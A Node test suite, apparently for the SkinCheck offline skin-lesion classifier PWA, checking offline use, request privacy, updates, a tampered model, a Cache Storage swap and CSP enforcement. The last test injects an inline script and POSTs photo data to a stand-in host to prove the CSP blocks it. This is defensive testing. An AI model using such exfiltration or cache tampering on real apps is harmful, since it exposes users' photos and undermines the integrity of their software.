// The installable, offline PWA and its privacy promise (issue 7), in headless Chromium:
// offline reloads, every request recorded, the same dist at / and under a sub-path, a
// tampered model, a deploy of build B over build A, two deployments sharing an origin, a
// model card replaced in Cache Storage, the CSP enforced, installability facts.
// Run after `trunk build` (scripts/test.sh does both); SKINCHECK_CLI is the native CLI and
// SKINCHECK_PWA the post-build tool (default: beside the CLI).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, dirname, join } from 'node:path';
import {
  CLI, DIST, FIXTURES, ROOT, cliProbabilities, expectProbabilities, launchChromium, serveStatic,
} from './support.mjs';

const PWA_TOOL = process.env.SKINCHECK_PWA ?? join(dirname(CLI), 'skincheck-pwa');
const SUBPATH = '/some/sub/path/';
const IMAGES = ['nv_ISIC_0024306.png', 'mel_ISIC_0024310.png', 'bcc_ISIC_0024345.png'].map((f) => join(FIXTURES, f));
const tmp = mkdtempSync(join(tmpdir(), 'skincheck-offline-'));
let browser;
const servers = [];

/** The build manifest sw.js was written with (crates/pwa). */
function buildOf(dist) {
  const m = /const BUILD = (\{[\s\S]*?\n\});/.exec(readFileSync(join(dist, 'sw.js'), 'utf8'));
  assert.ok(m, `${dist}/sw.js carries no build manifest: was the post_build hook run?`);
  return JSON.parse(m[1]);
}

/**
 * Serves `dist` (a copy when `copy`, so the test may change it) under SUBPATH, or at /;
 * `noCache`: as a host that sends `Cache-Control: no-cache` and no validators.
 */
async function serve(dist, { copy = false, atRoot = false, noCache = false } = {}) {
  const www = mkdtempSync(join(tmp, 'www-'));
  let served = dist;
  if (copy) {
    served = join(www, '_dist');
    cpSync(dist, served, { recursive: true });
  }
  let root = served;
  if (!atRoot) {
    root = join(www, 'root');
    mkdirSync(join(root, dirname(SUBPATH.slice(1, -1))), { recursive: true });
    symlinkSync(served, join(root, SUBPATH.slice(1, -1)));
  }
  const server = await serveStatic(root, { noCache });
  servers.push(server);
  const scope = atRoot ? '/' : SUBPATH;
  return { ...server, dist: served, scope, url: server.origin + scope };
}

/** Copies of `dist` served at /a/ and /b/ of one origin, as two deployments on one host. */
async function serveTwo(dist) {
  const root = mkdtempSync(join(tmp, 'two-'));
  const copies = {};
  for (const name of ['a', 'b']) {
    copies[name] = join(root, name);
    cpSync(dist, copies[name], { recursive: true });
  }
  const server = await serveStatic(root);
  servers.push(server);
  return { ...server, dists: copies, urls: { a: `${server.origin}/a/`, b: `${server.origin}/b/` } };
}

/** The cache of `build` for the deployment at `scope` (crates/pwa/sw.js, src/offline.rs). */
function cacheName(scope, build) {
  return `skincheck ${scope} ${build.version}`;
}

/** Deploys another build over `dist` in place: the tiny fixture model, the post-build step re-run. */
function deployTinyModel(dist) {
  const tinyCard = JSON.parse(readFileSync(join(ROOT, 'tests/fixtures/tiny_model.json'), 'utf8'));
  cpSync(join(ROOT, 'tests/fixtures/tiny_model.onnx'), join(dist, 'assets', tinyCard.onnx_file));
  cpSync(join(ROOT, 'tests/fixtures/tiny_model.json'), join(dist, 'assets/model.json'));
  rmSync(join(dist, 'assets/model.onnx'));
  execFileSync(PWA_TOOL, [dist], { stdio: 'inherit' });
  return tinyCard;
}

/** A fresh browser profile recording every request (page, its workers, the service worker). */
async function newContext({ persistent = false } = {}) {
  // A persistent profile where Chromium must judge installability (it refuses in incognito,
  // which is what ordinary test contexts are).
  const context = persistent
    ? await launchChromium({ userDataDir: mkdtempSync(join(tmp, 'profile-')) })
    : await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const requests = [];
  const errors = [];
  context.on('request', (r) => requests.push({ url: r.url(), fromServiceWorker: !!r.serviceWorker() }));
  context.on('page', (page) => {
    page.on('websocket', (ws) => requests.push({ url: ws.url(), fromServiceWorker: false }));
    page.on('pageerror', (e) => errors.push(String(e)));
    page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
  });
  return { context, requests, errors };
}

async function waitForModel(page, state = 'ready') {
  await page.waitForSelector(`[data-testid=model-status][data-state=${state}]`, { timeout: 120_000 });
}

/**
 * Until the worker controls the page and holds every file of `build` in its cache. Polled
 * with `evaluate`, which awaits the check (a `waitForFunction` predicate's promise counts as
 * truthy at once); a navigation meanwhile (the context is replaced) is just another poll.
 */
async function waitForOfflineCopy(page, build, scope = SUBPATH) {
  const name = cacheName(scope, build);
  const deadline = Date.now() + 180_000;
  for (;;) {
    const stored = await page.evaluate(async ({ name, count }) => {
      if (!navigator.serviceWorker.controller || !(await caches.has(name))) return false;
      return (await (await caches.open(name)).keys()).length === count;
    }, { name, count: build.files.length }).catch(() => false);
    if (stored) return;
    assert.ok(Date.now() < deadline, `no offline copy ${name} controlling the page within 180 s`);
    await page.waitForTimeout(250);
  }
}

/**
 * The end of the initial load: the network has been quiet for `ms` (the browser's own check
 * of sw.js right after the first install counts as part of the load), browser and server side.
 */
async function waitForQuiet(page, requests, server, ms = 3000) {
  let seen = -1;
  while (seen !== requests.length + server.requests.length) {
    seen = requests.length + server.requests.length;
    await page.waitForTimeout(ms);
  }
}

async function classify(page, image, expected, label) {
  await page.setInputFiles('#file-input', image);
  await expectProbabilities(page, expected, label);
}

async function gotoPage(page, link, heading) {
  await page.click(`nav >> text=${link}`);
  await page.waitForFunction((re) => new RegExp(re).test(document.querySelector('main h1')?.textContent ?? ''), heading.source);
}

function isLoopback(url) {
  const { protocol, hostname } = new URL(url);
  if (protocol === 'blob:' || protocol === 'data:') return true;
  return ['127.0.0.1', 'localhost', '[::1]'].includes(hostname);
}

before(async () => {
  assert.ok(existsSync(join(DIST, 'index.html')), 'dist/index.html missing: run `trunk build` at the repo root first');
  assert.ok(existsSync(CLI), `native CLI ${CLI} missing: run \`cargo build -p skincheck-cli\` first`);
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await Promise.all(servers.map((s) => s.stop()));
  rmSync(tmp, { recursive: true, force: true });
});

test('(1) after the first visit it works offline: reload with the server stopped, classify, open a deep link', async () => {
  const server = await serve(DIST);
  const build = buildOf(DIST);
  const { context, requests, errors } = await newContext();
  const page = await context.newPage();
  await page.goto(server.url);
  await waitForModel(page);
  await waitForOfflineCopy(page, build);

  await server.stop();
  await context.setOffline(true);
  const before = requests.length;
  await page.reload();
  await waitForModel(page);
  const reloadRequests = requests.slice(before);
  const expected = cliProbabilities(IMAGES[1]);
  await classify(page, IMAGES[1], expected, 'offline, server stopped: mel');
  // Every file of the reload came from the worker's cache (the server is gone).
  const appFiles = reloadRequests.filter((r) => r.url.startsWith(server.url) && !r.fromServiceWorker);
  assert.ok(appFiles.length >= 5, `only ${appFiles.length} requests on reload`);

  // A deep link reloaded offline: the worker answers the navigation with the cached page.
  await page.goto(`${server.url}about`);
  await page.waitForFunction(() => /About SkinCheck/.test(document.querySelector('main h1')?.textContent ?? ''));
  await page.waitForFunction(() => /works without a network/.test(document.querySelector('[data-testid=offline-status]')?.textContent ?? ''));
  await page.waitForSelector('[data-testid=offline-builds]');
  const stored = await page.textContent('[data-testid=offline-builds]');
  assert.match(stored, new RegExp(`build ${build.version}: ${build.files.length} files, [\\d.]+ MB`));
  const used = await page.textContent('[data-testid=storage-used]');
  assert.match(used, /^[\d.]+ (MB|GB) of the [\d.]+ (MB|GB) this browser allows this site$/);
  console.log(`  ok offline: reload (${appFiles.length} requests, all answered by the service worker), classification, ./about; About shows "${stored}", "${used}"`);

  // The About page's button deletes the offline copy and says so.
  await page.click('[data-testid=clear-offline]');
  await page.waitForSelector('[data-testid=offline-message]');
  const message = await page.textContent('[data-testid=offline-message]');
  assert.match(message, /^Deleted the offline copy \([\d.]+ MB\)\./);
  await page.waitForFunction(() => /none/.test(document.querySelector('[data-testid=offline-builds]')?.textContent ?? ''));
  const left = await page.evaluate(async () => ({
    caches: await caches.keys(), registration: (await navigator.serviceWorker.getRegistration()) ?? null,
  }));
  assert.deepEqual(left, { caches: [], registration: null }, 'something of the offline copy is left');
  assert.match(await page.textContent('[data-testid=offline-status]'), /deleted/);
  console.log(`  ok "Delete the offline copy": "${message.slice(0, 50)}…", no cache and no worker left`);
  assert.deepEqual(errors.filter((e) => !/ERR_INTERNET_DISCONNECTED|Failed to fetch|sw\.js/.test(e)), [], 'errors in the page');
  await context.close();
});

test('(2) from page open through 3 classifications: no foreign origin, and no request at all after the initial load', async () => {
  const server = await serve(DIST);
  const build = buildOf(DIST);
  const { context, requests, errors } = await newContext();
  const page = await context.newPage();
  await page.goto(server.url);
  await waitForModel(page);
  await waitForOfflineCopy(page, build);
  await waitForQuiet(page, requests, server);
  const initial = requests.length;
  const initialServed = server.requests.length;
  for (const image of IMAGES) {
    await classify(page, image, cliProbabilities(image), `no-traffic run: ${image.split('/').pop()}`);
  }
  // Let anything late (beacons, prefetches, retries) show up before counting.
  await page.waitForTimeout(2000);
  const foreign = requests.filter((r) => !isLoopback(r.url)).map((r) => r.url);
  assert.deepEqual(foreign, [], 'requests to a non-loopback origin');
  assert.deepEqual(requests.slice(initial).map((r) => r.url), [], 'requests after the initial load (browser side)');
  assert.deepEqual(server.requests.slice(initialServed), [], 'requests after the initial load (server side)');
  const fromPage = requests.filter((r) => !r.fromServiceWorker).length;
  console.log(`  ok initial load: ${fromPage} requests by the page and its worker, ${initial - fromPage} by the service worker `
    + `(precache of ${build.files.length} files), ${initialServed} answered by the server, all on ${server.origin}; `
    + `3 classifications: 0 requests`);
  assert.deepEqual(errors, [], 'errors in the page');
  await context.close();
});

// An ordinary profile: its HTTP cache is on disk. An incognito context's cache lives in memory
// and does not keep the 17 MB worker wasm (measured: there the install downloads that one file
// again; every other file, the model included, is taken from the cache).
test('(9) a first visit downloads each file once: the offline copy adds no download, even from a no-cache host', async () => {
  const server = await serve(DIST, { noCache: true });
  const build = buildOf(DIST);
  const { context, requests, errors } = await newContext({ persistent: true });
  const page = await context.newPage();
  await page.goto(server.url);
  await waitForModel(page);
  await waitForOfflineCopy(page, build);
  await waitForQuiet(page, requests, server);
  // The app's folder is its index.html: the address a first visit opens.
  const fileOf = (path) => (path.endsWith('/') ? `${path}index.html` : path);
  const sent = new Map();
  for (const r of server.requests.filter((q) => q.method === 'GET' && q.status === 200)) {
    sent.set(fileOf(r.path), (sent.get(fileOf(r.path)) ?? 0) + 1);
  }
  // The page may ask twice for a file the host forbids it to reuse (the header's icon, drawn
  // again); the service worker must never add a download of its own.
  const asked = (path) => requests.filter((r) => !r.fromServiceWorker && new URL(r.url).pathname === path).length;
  const extra = [...sent].filter(([path, n]) => n > Math.max(1, asked(path)));
  assert.deepEqual(extra, [], 'files downloaded again for the offline copy');
  // Every file of the build is stored, and the stored bytes are the build's (the worker's
  // sha256 check still covers each one).
  const stored = await page.evaluate(async (name) => {
    const cache = await caches.open(name);
    const out = {};
    for (const request of await cache.keys()) {
      const body = await (await cache.match(request)).arrayBuffer();
      const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', body));
      out[new URL(request.url).pathname] = Array.from(digest, (b) => b.toString(16).padStart(2, '0')).join('');
    }
    return out;
  }, cacheName(SUBPATH, build));
  for (const file of build.files) {
    assert.equal(stored[SUBPATH + file.url.replace(/^\.\//, '')], file.sha256, `offline copy of ${file.url}`);
  }
  for (const heavy of ['assets/model.onnx', 'worker_bg.wasm']) {
    assert.equal(sent.get(SUBPATH + heavy), 1, `${heavy} sent once`);
  }
  const bytes = build.files.reduce((total, file) => total + file.size, 0);
  const bySw = requests.filter((r) => r.fromServiceWorker).length;
  console.log(`  ok first visit: ${sent.size} files downloaded (${build.files.length} in the build, `
    + `${(bytes / 1e6).toFixed(1)} MB), model and worker once; the install's ${bySw} requests added none; `
    + 'offline copy matches every sha256');
  assert.deepEqual(errors, [], 'errors in the page');
  await context.close();
});

test('(3) the same dist works at / and under a sub-path, installable there (manifest, icons, controlling worker)', async () => {
  const build = buildOf(DIST);
  for (const atRoot of [true, false]) {
    const server = await serve(DIST, { atRoot });
    const { context, errors } = await newContext({ persistent: true });
    const page = await context.newPage();
    await page.goto(server.url);
    await waitForModel(page);
    await waitForOfflineCopy(page, build, server.scope);
    const facts = await page.evaluate(async () => {
      const registration = await navigator.serviceWorker.getRegistration();
      const link = document.querySelector('link[rel=manifest]');
      const manifest = await (await fetch(link.href)).json();
      const icons = [];
      for (const icon of manifest.icons) {
        const bytes = new Uint8Array(await (await fetch(new URL(icon.src, link.href))).arrayBuffer());
        const view = new DataView(bytes.buffer);
        const png = bytes[1] === 0x50 && bytes[2] === 0x4e && bytes[3] === 0x47;
        icons.push({ ...icon, real: png ? `${view.getUint32(16)}x${view.getUint32(20)}` : 'not a png' });
      }
      return {
        scope: registration.scope, controller: navigator.serviceWorker.controller?.scriptURL,
        manifestUrl: link.href, manifest, icons,
        startUrl: new URL(manifest.start_url, link.href).href, scopeUrl: new URL(manifest.scope, link.href).href,
        themeMeta: document.querySelector('meta[name=theme-color]')?.content,
      };
    });
    assert.equal(facts.scope, server.url, 'worker scope');
    assert.equal(facts.controller, `${server.url}sw.js`, 'the page is controlled by the app\'s worker');
    assert.equal(facts.startUrl, server.url, 'start_url resolves to the app folder');
    assert.equal(facts.scopeUrl, server.url, 'scope resolves to the app folder');
    const m = facts.manifest;
    assert.ok(m.name && m.short_name, 'name and short_name');
    assert.ok(['standalone', 'fullscreen', 'minimal-ui'].includes(m.display), `display ${m.display}`);
    assert.match(m.theme_color, /^#[0-9a-f]{6}$/i);
    assert.equal(facts.themeMeta, m.theme_color);
    assert.ok(m.background_color);
    for (const [size, purpose] of [['192x192', 'any'], ['512x512', 'any'], ['512x512', 'maskable']]) {
      const icon = facts.icons.find((i) => i.sizes === size && (i.purpose ?? 'any').split(' ').includes(purpose) && i.type === 'image/png');
      assert.ok(icon, `a ${purpose} PNG icon of ${size}`);
      assert.equal(icon.real, size, `${icon.src} is really ${size}`);
    }
    // Chromium's own verdict, where this build still offers it over CDP.
    const cdp = await context.newCDPSession(page);
    const appManifest = await cdp.send('Page.getAppManifest');
    assert.deepEqual(appManifest.errors, [], 'manifest parse errors');
    let verdict = 'Page.getInstallabilityErrors not offered by this Chromium';
    try {
      const { installabilityErrors } = await cdp.send('Page.getInstallabilityErrors');
      assert.deepEqual(installabilityErrors, [], 'Chromium installability errors');
      verdict = 'Chromium reports no installability errors';
    } catch (e) {
      if (!/wasn't found|not found/i.test(String(e))) throw e;
    }
    await classify(page, IMAGES[0], cliProbabilities(IMAGES[0]), `served at ${atRoot ? '/' : SUBPATH}: nv`);
    console.log(`  ok ${atRoot ? '/' : SUBPATH}: scope ${facts.scope}, manifest + icons (${facts.icons.map((i) => `${i.real} ${i.purpose}`).join(', ')}); ${verdict}`);
    assert.deepEqual(errors, [], 'errors in the page');
    await context.close();
    await server.stop();
  }
});

test('(4) a tampered model file gives the hash error and is never stored for offline use', async () => {
  const server = await serve(DIST, { copy: true });
  // Same size, one byte flipped, as a damaged upload or an attacker's edit would give; the
  // post-build step is not re-run, so the build's recorded sha256 is the true one.
  const model = join(server.dist, 'assets/model.onnx');
  const bytes = readFileSync(model);
  bytes[bytes.length >> 1] ^= 0xff;
  writeFileSync(model, bytes);
  const { context } = await newContext();
  const page = await context.newPage();
  await page.goto(server.url);
  await waitForModel(page, 'failed');
  const text = await page.textContent('[data-testid=model-error]');
  assert.match(text, /does not match its card \(expected sha256 [0-9a-f]{64}, got [0-9a-f]{64}\)/);
  assert.match(await page.textContent('[data-testid=results]'), /model is not available/);
  // The service worker refused the build: nothing of it is cached, and the About page says so.
  await gotoPage(page, 'About', /About SkinCheck/);
  await page.waitForFunction(() => /No offline copy: the offline copy could not be stored/.test(
    document.querySelector('[data-testid=offline-status]')?.textContent ?? ''), null, { timeout: 120_000 });
  const left = await page.evaluate(async () => ({
    caches: await caches.keys(), controlled: navigator.serviceWorker.controller !== null,
  }));
  assert.deepEqual(left, { caches: [], controlled: false }, 'something of the tampered build was stored');
  console.log(`  ok tampered model: "${text.trim().slice(0, 80)}…"; the worker refused the build, nothing stored`);
  await context.close();
});

test('(5) build B deployed over build A: the open page offers the update, keeps A until asked, then runs B\'s model', async () => {
  assert.ok(existsSync(PWA_TOOL), `${PWA_TOOL} missing: run \`cargo build -p skincheck-pwa\` (trunk build runs it)`);
  const server = await serve(DIST, { copy: true });
  const buildA = buildOf(server.dist);
  const cardA = JSON.parse(readFileSync(join(server.dist, 'assets/model.json'), 'utf8'));
  const { context, errors } = await newContext();
  const page = await context.newPage();
  await page.goto(server.url);
  await waitForModel(page);
  await waitForOfflineCopy(page, buildA);
  await classify(page, IMAGES[2], cliProbabilities(IMAGES[2]), 'build A: bcc');

  // Deploy B over A in place: another model (the tiny fixture), the post-build step re-run.
  const tinyCard = deployTinyModel(server.dist);
  const buildB = buildOf(server.dist);
  assert.notEqual(buildB.version, buildA.version);

  // The page's own update check (it runs when the page returns to the foreground).
  await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
  await page.waitForSelector('[data-testid=update-banner]', { timeout: 180_000 });
  assert.match(await page.textContent('[data-testid=update-banner]'), /new version of SkinCheck is available/);
  // Until the click, the page runs A and gets A's files only, although B is on the server.
  const servedCard = await page.evaluate(async () => (await (await fetch('assets/model.json')).json()).model_id);
  assert.equal(servedCard, cardA.model_id, 'the old page was given the new build\'s card');
  await gotoPage(page, 'About', /About SkinCheck/);
  assert.match(await page.textContent('main'), new RegExp(cardA.model_id));

  await Promise.all([page.waitForEvent('load', { timeout: 60_000 }), page.click('[data-testid=update-reload]')]);
  // The reload keeps the route (./about, answered by B's worker with B's index.html).
  assert.equal(page.url(), `${server.url}about`);
  await waitForOfflineCopy(page, buildB);
  await page.waitForFunction((id) => document.querySelector('main')?.textContent.includes(id), tinyCard.model_id);
  assert.equal(await page.$('[data-testid=update-banner]'), null, 'the banner outlived the update');
  const tinyModel = join(ROOT, 'tests/fixtures/tiny_model.onnx');
  await gotoPage(page, 'Classifier', /./);
  await waitForModel(page);
  await classify(page, IMAGES[2], cliProbabilities(IMAGES[2], { model: tinyModel }), 'build B (tiny model): bcc');
  const caches = await page.evaluate(() => caches.keys());
  assert.deepEqual(caches, [cacheName(SUBPATH, buildB)], 'old build\'s cache not deleted');
  console.log(`  ok update ${buildA.version} -> ${buildB.version}: banner, A kept until "Reload", then ${tinyCard.model_id}; caches ${caches}`);
  assert.deepEqual(errors, [], 'errors in the page');
  await context.close();
});

test('(6) two deployments on one origin: an update and a clean-up at /b/ leave /a/\'s offline copy alone', async () => {
  assert.ok(existsSync(PWA_TOOL), `${PWA_TOOL} missing: run \`cargo build -p skincheck-pwa\` (trunk build runs it)`);
  const server = await serveTwo(DIST);
  const build = buildOf(server.dists.a);
  const { context, errors } = await newContext();
  const pageA = await context.newPage();
  await pageA.goto(server.urls.a);
  await waitForModel(pageA);
  await waitForOfflineCopy(pageA, build, '/a/');
  const pageB = await context.newPage();
  await pageB.goto(server.urls.b);
  await waitForModel(pageB);
  await waitForOfflineCopy(pageB, build, '/b/');

  // A new build at /b/ only, taken by its page.
  const tinyCard = deployTinyModel(server.dists.b);
  const buildB = buildOf(server.dists.b);
  await pageB.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
  await pageB.waitForSelector('[data-testid=update-banner]', { timeout: 180_000 });
  await Promise.all([pageB.waitForEvent('load', { timeout: 60_000 }), pageB.click('[data-testid=update-reload]')]);
  await waitForOfflineCopy(pageB, buildB, '/b/');
  let names = (await pageA.evaluate(() => caches.keys())).sort();
  assert.deepEqual(names, [cacheName('/a/', build), cacheName('/b/', buildB)].sort(), 'the update at /b/ touched /a/');

  // /a/ still runs its own build, offline too.
  await context.setOffline(true);
  await pageA.reload();
  await waitForModel(pageA);
  await classify(pageA, IMAGES[0], cliProbabilities(IMAGES[0]), '/a/ offline after the update at /b/: nv');
  await context.setOffline(false);

  // "Delete the offline copy" at /b/ deletes /b/'s only.
  await gotoPage(pageB, 'About', /About SkinCheck/);
  await pageB.waitForSelector('[data-testid=offline-builds]');
  await pageB.click('[data-testid=clear-offline]');
  await pageB.waitForSelector('[data-testid=offline-message]');
  names = await pageA.evaluate(() => caches.keys());
  assert.deepEqual(names, [cacheName('/a/', build)], 'the clean-up at /b/ touched /a/');
  const registrations = await pageA.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).map((r) => new URL(r.scope).pathname));
  assert.deepEqual(registrations, ['/a/'], 'the clean-up at /b/ removed /a/\'s worker');
  console.log(`  ok /b/ updated to ${tinyCard.model_id} and cleaned up; /a/ kept ${cacheName('/a/', build)} and works offline`);
  assert.deepEqual(errors, [], 'errors in the pages');
  await context.close();
});

test('(7) a model card and model replaced in Cache Storage (as another app on the origin could) are refused', async () => {
  const server = await serve(DIST);
  const build = buildOf(DIST);
  const { context } = await newContext();
  const page = await context.newPage();
  await page.goto(server.url);
  await waitForModel(page);
  await waitForOfflineCopy(page, build);
  // A consistent pair (the tiny fixture: its card names this ONNX file and its sha256), so only
  // the build's pin can tell it is not SkinCheck's model.
  const card = JSON.parse(readFileSync(join(ROOT, 'tests/fixtures/tiny_model.json'), 'utf8'));
  card.onnx_file = 'model.onnx';
  const onnx = readFileSync(join(ROOT, 'tests/fixtures/tiny_model.onnx')).toString('base64');
  await page.evaluate(async ({ name, cardText, onnx }) => {
    const cache = await caches.open(name);
    const bytes = Uint8Array.from(atob(onnx), (c) => c.charCodeAt(0));
    await cache.put(new URL('assets/model.json', location.href).href, new Response(cardText, { headers: { 'Content-Type': 'application/json' } }));
    await cache.put(new URL('assets/model.onnx', location.href).href, new Response(bytes, { headers: { 'Content-Type': 'application/octet-stream' } }));
  }, { name: cacheName(SUBPATH, build), cardText: JSON.stringify(card), onnx });
  await page.reload();
  await waitForModel(page, 'failed');
  const text = await page.textContent('[data-testid=model-error]');
  assert.match(text, /not the one this build of SkinCheck was made with/);
  assert.match(await page.textContent('[data-testid=results]'), /model is not available/);
  console.log(`  ok replaced card refused: "${text.trim().slice(0, 90)}…"`);
  await context.close();
});

test('(8) Reload in one tab waits for a batch running in another; both take the update once it is done', async () => {
  assert.ok(existsSync(PWA_TOOL), `${PWA_TOOL} missing: run \`cargo build -p skincheck-pwa\` (trunk build runs it)`);
  const server = await serve(DIST, { copy: true });
  const build = buildOf(server.dist);
  const { context, errors } = await newContext();
  const idle = await context.newPage();
  await idle.goto(server.url);
  await waitForModel(idle);
  await waitForOfflineCopy(idle, build);
  const busy = await context.newPage();
  await busy.goto(server.url);
  await waitForModel(busy);
  await gotoPage(busy, 'Batch', /Batch/);
  // How far the batch got when its tab unloads (sessionStorage outlives the reload).
  await busy.evaluate(() => addEventListener('pagehide', () => {
    const e = document.querySelector('[data-testid=batch-progress]');
    sessionStorage.setItem('at-unload', `${e?.dataset.finished}/${e?.dataset.total}`);
  }));

  const tinyCard = deployTinyModel(server.dist);
  await idle.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
  await idle.waitForSelector('[data-testid=update-banner]', { timeout: 180_000 });
  const photos = readdirSync(FIXTURES).filter((f) => f.endsWith('.png')).map((f) => join(FIXTURES, f));
  const dir = join(tmp, 'forty');
  mkdirSync(dir, { recursive: true });
  const files = [];
  for (let i = 0; files.length < 40; i++) {
    const copy = join(dir, `${i}_${basename(photos[i % photos.length])}`);
    cpSync(photos[i % photos.length], copy);
    files.push(copy);
  }
  await busy.setInputFiles('#batch-files', files);
  await busy.waitForFunction(() => Number(document.querySelector('[data-testid=batch-progress]')?.dataset.finished) >= 1,
    null, { timeout: 120_000 });

  const reloads = Promise.all([idle, busy].map((p) => p.waitForEvent('load', { timeout: 600_000 })));
  await idle.click('[data-testid=update-reload]');
  await idle.waitForSelector('[data-testid=update-waiting]', { timeout: 30_000 });
  const waiting = await idle.textContent('[data-testid=update-waiting]');
  assert.match(waiting, /another SkinCheck tab is running a batch \(\d+ of 40/);
  await reloads;
  assert.equal(await busy.evaluate(() => sessionStorage.getItem('at-unload')), '40/40', 'the busy tab reloaded before its batch was done');
  for (const page of [idle, busy]) {
    const id = await page.evaluate(async () => (await (await fetch('assets/model.json')).json()).model_id);
    assert.equal(id, tinyCard.model_id, 'a tab still runs the old build');
  }
  console.log(`  ok "${waiting.trim().slice(0, 90)}…"; the batch finished 40/40, then both tabs took ${tinyCard.model_id}`);
  assert.deepEqual(errors, [], 'errors in the pages');
  await context.close();
});

test('the CSP allows only this origin: no violation in normal use, an injected inline script and an upload elsewhere blocked', async () => {
  const server = await serve(DIST);
  const { context, errors } = await newContext();
  await context.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__cspViolations.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  const page = await context.newPage();
  await page.goto(server.url);
  await waitForModel(page);
  const policy = await page.getAttribute('meta[http-equiv=Content-Security-Policy]', 'content');
  const scriptSrc = policy.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src'));
  assert.doesNotMatch(scriptSrc, /'unsafe-inline'|'unsafe-eval'|https?:|\*/, scriptSrc);
  assert.match(scriptSrc, /'sha256-[A-Za-z0-9+/]+=*'/, 'trunk\'s loader is allowed by its hash');
  for (const directive of policy.split(';')) {
    assert.doesNotMatch(directive, /https?:|\*|wss?:/, `an external origin in "${directive.trim()}"`);
  }
  await classify(page, IMAGES[0], cliProbabilities(IMAGES[0]), 'under the CSP: nv');
  await gotoPage(page, 'Model', /The model/);
  await gotoPage(page, 'About', /About SkinCheck/);
  assert.deepEqual(await page.evaluate(() => window.__cspViolations), [], 'the app itself violates its CSP');
  const blocked = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true';
    document.head.append(s);
    // What an injected script would do with a photo: send it elsewhere.
    let sent;
    try { await fetch('https://upload.example.com/photo', { method: 'POST', body: 'pixels' }); sent = 'sent'; } catch (e) { sent = e.name; }
    await new Promise((ok) => setTimeout(ok, 200));
    return { injected: window.__injected === true, sent, violations: window.__cspViolations };
  });
  assert.equal(blocked.injected, false, 'an injected inline script ran');
  assert.equal(blocked.sent, 'TypeError', 'a request to another origin was let through');
  assert.ok(blocked.violations.some((v) => v.startsWith('script-src')), JSON.stringify(blocked.violations));
  assert.ok(blocked.violations.some((v) => v === 'connect-src https://upload.example.com/photo'), JSON.stringify(blocked.violations));
  console.log(`  ok CSP enforced: ${scriptSrc.slice(0, 60)}…; blocked: ${blocked.violations.join(', ')}`);
  assert.deepEqual(errors.filter((e) => !/Content Security Policy|Failed to fetch/.test(e)), [], 'errors in the page');
  await context.close();
});
